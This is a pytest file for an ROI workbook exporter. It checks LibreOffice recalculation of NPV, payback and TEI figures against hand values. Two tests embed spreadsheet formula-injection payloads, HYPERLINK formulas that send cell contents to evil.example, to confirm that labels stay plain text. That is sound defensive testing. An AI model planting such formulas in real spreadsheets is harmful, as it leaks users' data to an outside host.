"""The implementation-value workbook, recalculated by LibreOffice (Debian's libreoffice-calc-nogui,
headless; .ci/run installs it): every formula gives the value the page shows, the NPV is the hand
value, and a changed input cell changes the results. LibreOffice is the independent oracle: it
evaluates the formulas itself, not the cached values the file carries."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import openpyxl
import pytest

from tests.hand import roi_npv_by_hand
from upskill_roi.core.roi import ImplementationInputs, evaluate
from upskill_roi.documents.workbook import InputRow, implementation_rows, implementation_workbook
from upskill_roi.inputs.declared import ROI_INPUTS

# LibreOffice keeps an .xlsx file's cached results unless told to recalculate on load: this profile
# says "always" (Tools > Options > Calc > Formula > Recalculation on file load).
PROFILE = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema"
 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse">
<value>0</value></prop></item>
</oor:items>
"""


@pytest.fixture(scope="module")
def recalc(tmp_path_factory):
    """``recalc(path) -> path``: the workbook as LibreOffice saves it after recalculating it."""
    soffice = shutil.which("soffice")
    if soffice is None:
        raise RuntimeError("LibreOffice is required: apt-get install libreoffice-calc-nogui (.ci/run does this)")
    profile = tmp_path_factory.mktemp("lo-profile")
    (profile / "user").mkdir()
    (profile / "user" / "registrymodifications.xcu").write_text(PROFILE)

    def run(path: Path) -> Path:
        out = path.parent / "recalculated"
        done = subprocess.run([soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to",
                               "xlsx", "--outdir", str(out), str(path)], capture_output=True, text=True, timeout=180)
        assert done.returncode == 0 and (out / path.name).exists(), done.stdout + done.stderr
        return out / path.name
    return run


def _write(tmp_path: Path, inputs: ImplementationInputs, name: str = "case.xlsx") -> Path:
    path = tmp_path / name
    path.write_bytes(implementation_workbook(evaluate(inputs), implementation_rows(inputs, ROI_INPUTS, {}, "USD"),
                                             "USD"))
    return path


def _summary(path: Path) -> dict[str, tuple[object, object]]:
    """Result label -> (the formula's value, the app's value) on the Summary sheet."""
    ws = openpyxl.load_workbook(path, data_only=True)["Summary"]
    return {row[0]: (row[1], row[2]) for row in ws.iter_rows(min_row=4, values_only=True) if row[0]}


def _checks(path: Path) -> dict[str, object]:
    ws = openpyxl.load_workbook(path, data_only=True)["Checks"]
    return {row[0]: row[1] for row in ws.iter_rows(min_row=4, values_only=True) if row[0]}


CASES = {
    # (the inputs, the hand NPV of tests/hand.py with the same figures)
    "defaults": (ImplementationInputs(), roi_npv_by_hand()),
    "no ramp, 5 years at 12 %": (ImplementationInputs(ramp_months=0, horizon_years=5, discount_rate=0.12),
                                 roi_npv_by_hand(ramp=0, years=5, rate=0.12)),
    "never pays back": (ImplementationInputs(annual_savings=60_000), roi_npv_by_hand(savings=60_000)),
    "in production for sure, no risk": (
        ImplementationInputs(success_probability=1, benefit_risk=0, cost_risk=0, ramp_months=6, horizon_years=10),
        roi_npv_by_hand(p=1, b=0, c=0, ramp=6, years=10)),
}


@pytest.mark.parametrize("case", CASES, ids=list(CASES))
def test_libreoffice_recalculates_every_formula_to_the_page_s_value(case, recalc, tmp_path) -> None:
    inputs, hand_npv = CASES[case]
    path = _write(tmp_path, inputs)
    cached = _summary(path)
    summary = _summary(recalc(path))
    assert summary.keys() == cached.keys() and len(summary) == 17
    for label, (formula, app) in summary.items():
        if isinstance(app, float | int) and not isinstance(app, bool):
            assert cached[label][0] == pytest.approx(app, rel=1e-12, abs=1e-9)  # the file opens showing them
            assert formula == pytest.approx(app, abs=0.01), label
        else:
            assert formula == app == cached[label][0], label  # "never", "n/a"
    assert summary["Net present value"][0] == pytest.approx(hand_npv, abs=0.01)
    assert set(_checks(recalc(path)).values()) == {"OK"}


def test_the_default_case_by_hand(recalc, tmp_path) -> None:
    """Hand values of the defaults: NPV 582,614.32 (tests/hand.py); payback 5.9 months; net savings
    500,000 x 0.9 - 50,000 x 1.1 = 395,000 a year; the premium by the rule 10 % of it = 39,500."""
    summary = _summary(recalc(_write(tmp_path, ImplementationInputs())))
    assert round(summary["Net present value"][0], 2) == 582_614.32
    assert round(summary["Payback (months, undiscounted)"][0], 1) == 5.9
    assert summary["Net savings a year in production"][0] == pytest.approx(395_000)
    assert summary["Justified premium"][0] == pytest.approx(39_500)
    assert summary["NPV if it does not"][0] == pytest.approx(-110_000)


def _set_input(path: Path, label: str, value: float) -> None:
    wb = openpyxl.load_workbook(path)
    ws = wb["Inputs"]
    (row,) = [r for r in range(4, ws.max_row + 1) if ws.cell(r, 1).value == label]
    ws.cell(row, 2).value = value
    wb.save(path)


def test_changing_the_discount_rate_cell_changes_the_npv(recalc, tmp_path) -> None:
    path = _write(tmp_path, ImplementationInputs())
    _set_input(path, "Discount rate", 0.12)
    summary = _summary(recalc(path))
    npv, app = summary["Net present value"]
    assert npv == pytest.approx(roi_npv_by_hand(rate=0.12), abs=0.01)  # 563,963
    assert app == pytest.approx(roi_npv_by_hand(), abs=0.01)  # the page's value, kept for the audit
    checks = _checks(recalc(path))
    assert checks["Net present value: formula = the app's value"] == "DIFFERS"  # the Checks sheet can fail
    assert checks["NPV = the sum of the monthly present values"] == "OK"


def test_changing_the_horizon_cell_changes_the_months_counted(recalc, tmp_path) -> None:
    path = _write(tmp_path, ImplementationInputs())
    _set_input(path, "Horizon", 5)
    npv = _summary(recalc(path))["Net present value"][0]
    assert npv == pytest.approx(roi_npv_by_hand(years=5), abs=0.01)
    _set_input(path, "Horizon", 11)  # beyond what the app accepts (1 to 10)
    assert _checks(recalc(path))["Horizon: within the accepted range"] == "OUT OF RANGE"


def test_text_is_never_a_formula(tmp_path) -> None:
    """Labels and sources are written as text: one that starts with "=" stays a string."""
    i = ImplementationInputs()
    rows = implementation_rows(i, ROI_INPUTS, {}, "USD")
    rows[0] = InputRow(rows[0].field, '=HYPERLINK("https://evil.example/?x="&B4,"Open")', "USD/yr", "=1+1",
                       rows[0].value, "assumed", 0.0, 1e8)
    path = tmp_path / "t.xlsx"
    path.write_bytes(implementation_workbook(evaluate(i), rows, "USD"))
    ws = openpyxl.load_workbook(path)["Inputs"]
    assert ws["A4"].data_type == "s" and ws["A4"].value.startswith("=HYPERLINK")
    assert ws["G4"].data_type == "s" and ws["G4"].value == "=1+1"
    assert ws["B4"].data_type == "n"


def test_the_inputs_sheet_says_which_inputs_are_the_user_s() -> None:
    rows = {r.field: r for r in implementation_rows(ImplementationInputs(discount_rate=0.12), ROI_INPUTS,
                                                     {"rate": 12.0, "savings": 500_000.0}, "EUR")}
    assert (rows["discount_rate"].status, rows["discount_rate"].value, rows["discount_rate"].unit) == (
        "your input", 0.12, "%/yr")
    assert rows["annual_savings"].status == "assumed" and rows["annual_savings"].unit == "EUR/yr"
    assert "Gartner" in rows["success_probability"].source


# --- The business case's own TEI table ------------------------------------------------------------
def _tei(tmp_path: Path, items, years: int = 3, inputs=None, name: str = "tei.xlsx") -> Path:
    from upskill_roi.core.business_case import TeamInputs, own_figures
    from upskill_roi.documents.workbook import tei_rows, tei_workbook
    from upskill_roi.inputs import tei
    from upskill_roi.inputs.declared import CASE_INPUTS

    inputs = inputs or TeamInputs(horizon_years=years)
    table = own_figures(*tei.arrays(items, years), inputs)
    path = tmp_path / name
    path.write_bytes(tei_workbook(items, years, table, tei_rows(inputs, CASE_INPUTS, {}, "USD"), "USD"))
    return path


def test_the_tei_workbook_recalculates_to_the_hand_values(recalc, tmp_path) -> None:
    """The example table at 3 years, 10 %, 10 % risk each way: benefits 450,000 a year; costs
    155,000 x 1.1 = 170,500 at Initial and 100,000 x 1.1 = 110,000 a year; NPV = -170,500 +
    340,000 x (1/1.1 + 1/1.1^2 + 1/1.1^3) = 675,029.68; payback 170,500 / 340,000 = 0.50 years."""
    from upskill_roi.inputs import tei

    path = recalc(_tei(tmp_path, list(tei.DEFAULT_ROWS)))
    summary = _summary(path)
    assert summary["Risk-adjusted NPV"][0] == pytest.approx(675_029.68, abs=0.01)
    assert summary["Payback (years, undiscounted)"][0] == pytest.approx(170_500 / 340_000)
    assert summary["PV of costs"][0] == pytest.approx(170_500 + 110_000 * (1 / 1.1 + 1 / 1.21 + 1 / 1.331))
    for label, (formula, app) in summary.items():
        assert formula == pytest.approx(app, abs=0.01) if isinstance(app, float) else formula == app, label
    assert set(_checks(path).values()) == {"OK"}


def test_the_tei_workbook_of_a_case_that_never_pays_back(recalc, tmp_path) -> None:
    """upskill_roi.core.finance.tei_table's example: 100 a year for 2 years against 150 + 10 a year, at
    10 % with benefits -10 % and costs +20 %: NPV = 156.198 - 200.826 = -44.628, never paid back."""
    from upskill_roi.core.business_case import TeamInputs

    items = [{"Type": "Benefit", "Line item": "Benefit", "values": (0.0, 100.0, 100.0)},
             {"Type": "Cost", "Line item": "Build", "values": (150.0, 0.0, 0.0)},
             {"Type": "Cost", "Line item": "Upkeep", "values": (0.0, 10.0, 10.0)}]
    path = recalc(_tei(tmp_path, items, 2, TeamInputs(horizon_years=2, cost_risk=0.2)))
    summary = _summary(path)
    assert summary["Risk-adjusted NPV"][0] == pytest.approx(-44.628, abs=0.001)
    assert summary["Payback (years, undiscounted)"] == ("never", "never")
    assert set(_checks(path).values()) == {"OK"}


def test_a_changed_amount_or_rate_in_the_tei_workbook_changes_the_npv(recalc, tmp_path) -> None:
    from upskill_roi.inputs import tei

    path = _tei(tmp_path, list(tei.DEFAULT_ROWS))
    wb = openpyxl.load_workbook(path)
    wb["TEI table"]["D4"] = 600_000  # Year 1 of the first line item (the savings): 500,000 -> 600,000
    wb.save(path)
    _set_input(path, "Discount rate", 0.12)
    # By hand: year 1 net 340,000 + 90,000 = 430,000; then 340,000, 340,000; at 12 %.
    expected = -170_500 + 430_000 / 1.12 + 340_000 / 1.12**2 + 340_000 / 1.12**3
    assert _summary(recalc(path))["Risk-adjusted NPV"][0] == pytest.approx(expected, abs=0.01)


def test_line_item_names_stay_text_in_the_tei_workbook(tmp_path) -> None:
    """OWASP's example: a name that would be a formula is written as a string cell."""
    evil = '=HYPERLINK("https://evil.example/?leak="&C4,"Open details")'
    path = _tei(tmp_path, [{"Type": "Benefit", "Line item": evil, "values": (0.0, 1.0, 1.0, 1.0)}])
    cell = openpyxl.load_workbook(path)["TEI table"]["B4"]
    assert cell.data_type == "s" and cell.value == evil


def test_the_ranges_sheet_gives_the_simulated_scenarios(tmp_path) -> None:
    """Ranges that are no ranges (low = likely = high) and production for sure: every simulated case
    is the point case, so P10 = P50 = P90 = the hand NPV; with real ranges P10 < P50 < P90."""
    from upskill_roi.core import uncertainty
    from upskill_roi.core.uncertainty import Range

    i = ImplementationInputs(success_probability=1)
    rows = implementation_rows(i, ROI_INPUTS, {}, "USD")
    for spread, check in ((0.0, "equal"), (0.3, "ordered")):
        ranges = {"annual_savings": Range(500_000 * (1 - spread), 500_000, 500_000 * (1 + spread))}
        sim = uncertainty.simulate(uncertainty.simulation_inputs(i), ranges, n=2_000, seed=7)
        path = tmp_path / f"r{spread}.xlsx"
        path.write_bytes(implementation_workbook(evaluate(i), rows, "USD", ranges=ranges, simulation=sim, seed=7))
        ws = openpyxl.load_workbook(path, data_only=True)["Ranges"]
        found = {r[0]: r[1:4] for r in ws.iter_rows(min_row=3, values_only=True) if r[0]}
        assert found["Annual savings"] == pytest.approx((500_000 * (1 - spread), 500_000, 500_000 * (1 + spread)))
        p10, p50, p90 = found["Net present value"]
        if check == "equal":
            assert p10 == pytest.approx(roi_npv_by_hand(p=1), abs=0.01) and p10 == pytest.approx(p90, abs=0.01)
        else:
            assert p10 < p50 < p90 and (p10, p50, p90) == pytest.approx((sim.npv_p10, sim.npv_p50, sim.npv_p90))
        assert "seed 7" in ws["A1"].value
